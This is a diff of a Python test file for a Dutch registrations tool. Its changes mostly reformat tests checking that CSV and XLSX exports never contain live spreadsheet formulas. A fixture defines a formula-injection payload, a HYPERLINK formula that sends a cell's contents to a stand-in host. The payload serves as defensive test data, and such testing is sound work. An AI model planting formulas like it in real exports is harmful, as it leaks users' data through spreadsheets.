@@ -1,4 +1,6 @@
-"""Listings as files: the same rows and words as on the screen, never a formula, and no more about people."""
+"""Listings as files: the same rows and words as on the screen, never a formula,
+and no more about people.
+"""
 
 from collections.abc import Callable
 from pathlib import Path
@@ -21,7 +23,9 @@ FORMULA = '=HYPERLINK("http://x.example/?"&A1;"klik")'
 def hostile(folder: Path) -> Actor:
     """A firm whose name and question are formulas."""
     with Store(folder / "kansenbode.db") as store:
-        person, _ = store.run(meet, NOBODY, channel="web", external_id="secret-cookie", language="nl")
+        person, _ = store.run(
+            meet, NOBODY, channel="web", external_id="secret-cookie", language="nl"
+        )
         actor = Actor("person", person)
         settings: dict[str, Any] = {
             "opportunity": 1,
@@ -65,11 +69,15 @@ def test_listing_goes_to_a_new_file_of_ours_in_which_no_text_is_a_formula(
     if name.endswith("xlsx"):
         assert b"<f>" not in path.read_bytes()
     else:
-        cells = [cell for line in path.read_text("utf-8-sig").split("\n") for cell in line.split(";")]
+        cells = [
+            cell for line in path.read_text("utf-8-sig").split("\n") for cell in line.split(";")
+        ]
         assert [cell for cell in cells if cell.strip('"')[:1] in tuple("=+@")] == []
 
 
-def test_listing_has_the_words_of_the_screen_and_real_values(type_: Type, hostile: Actor, tmp_path: Path):
+def test_listing_has_the_words_of_the_screen_and_real_values(
+    type_: Type, hostile: Actor, tmp_path: Path
+):
     path = tmp_path / "aanmeldingen.xlsx"
 
     shown = type_("interests", "list", "--to", str(path))
@@ -77,21 +85,34 @@ def test_listing_has_the_words_of_the_screen_and_real_values(type_: Type, hostil
     headings, row = sheet(path)
     assert shown.out == f"Eén rij staat in {path}\n"
     assert headings == [
-        "nummer", "code", "kenmerk", "partij", "soort", "stand", "binnen op", "antwoord voor",
-    ]  # fmt: skip
+        "nummer",
+        "code",
+        "kenmerk",
+        "partij",
+        "soort",
+        "stand",
+        "binnen op",
+        "antwoord voor",
+    ]
     assert (row[0], row[2:6]) == (1.0, ["WD-2026-01", FORMULA, "bedrijf", "nieuw"])
     assert [type(value).__name__ for value in row[6:]] == ["datetime", "date"]
 
 
-def test_questions_and_opportunities_come_out_as_they_are_shown(type_: Type, hostile: Actor, tmp_path: Path):
+def test_questions_and_opportunities_come_out_as_they_are_shown(
+    type_: Type, hostile: Actor, tmp_path: Path
+):
     for thing in ("questions", "opportunities"):
         type_(thing, "list", "--to", str(tmp_path / f"{thing}.xlsx"))
 
     assert sheet(tmp_path / "questions.xlsx")[1][3] == FORMULA
-    assert [row[0] for row in sheet(tmp_path / "opportunities.xlsx")[1:]] == [f"WD-2026-{n:02}" for n in range(1, 9)]
+    assert [row[0] for row in sheet(tmp_path / "opportunities.xlsx")[1:]] == [
+        f"WD-2026-{n:02}" for n in range(1, 9)
+    ]
 
 
-def test_who_was_told_is_in_the_file_only_where_it_was_asked(type_: Type, hostile: Actor, tmp_path: Path):
+def test_who_was_told_is_in_the_file_only_where_it_was_asked(
+    type_: Type, hostile: Actor, tmp_path: Path
+):
     type_("opportunities", "set", "WD-2026-01", "hoe lang=Drie jaar", "--yes")
     counts, people = tmp_path / "counts.xlsx", tmp_path / "people.xlsx"
 
@@ -106,7 +127,10 @@ def test_name_of_another_kind_of_file_is_refused_with_those_there_are(type_: Typ
     shown = type_("interests", "list", "--to", str(tmp_path / "uit.pdf"))
 
     assert (shown.code, shown.out) == (1, "")
-    assert shown.err == "uit.pdf heeft een naam die we niet kennen. Laat hem eindigen op: .xlsx of .csv\n"
+    assert (
+        shown.err
+        == "uit.pdf heeft een naam die we niet kennen. Laat hem eindigen op: .xlsx of .csv\n"
+    )
 
 
 def test_opportunities_out_and_in_again_change_nothing(type_: Type, tmp_path: Path):
